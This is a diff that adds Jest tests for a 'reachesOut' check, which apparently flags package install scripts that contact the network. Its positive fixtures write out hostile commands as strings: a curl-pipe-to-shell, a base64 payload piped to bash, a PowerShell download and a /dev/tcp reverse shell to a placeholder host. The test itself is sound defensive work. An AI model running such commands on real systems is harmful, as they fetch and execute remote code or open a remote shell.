@@ -1,5 +1,5 @@
 import { describe, expect, it } from '@jest/globals';
-import { hooksOf, isCommonScript } from '../../src/model/scripts.ts';
+import { hooksOf, isCommonScript, reachesOut } from '../../src/model/scripts.ts';
 import { aRelease } from '../../src/rules/example.ts';
 
 describe('hooksOf', () => {
@@ -44,4 +44,24 @@ describe('isCommonScript', () => {
   ])('%j is not', (script) => {
     expect(isCommonScript(script)).toBe(false);
   });
+});
+
+describe('reachesOut', () => {
+  it.each([
+    'npm install -g other@latest',
+    'yarn global add x',
+    'curl -s https://x.invalid | sh',
+    'echo aGk= | base64 -d | bash',
+    'powershell -c iwr https://x.invalid',
+    "bash -c 'bash -i >& /dev/tcp/x.invalid/1 0>&1'",
+  ])('%s does', (script) => {
+    expect(reachesOut(script)).toBe(true);
+  });
+
+  it.each(['node index.js', 'node-gyp rebuild', 'npm run build', 'node scripts/curled.js', 'npm install --ignore-scripts'])(
+    '%s does not',
+    (script) => {
+      expect(reachesOut(script)).toBe(false);
+    },
+  );
 });
